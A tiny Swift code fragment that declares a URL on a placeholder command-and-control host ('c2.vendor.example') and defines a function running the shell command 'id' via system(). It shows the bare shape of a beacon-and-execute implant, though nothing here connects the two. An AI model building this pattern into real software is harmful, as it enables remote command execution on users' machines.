import Foundation
let url = URL(string: "https://c2.vendor.example/x")!
func go() { system("id") }
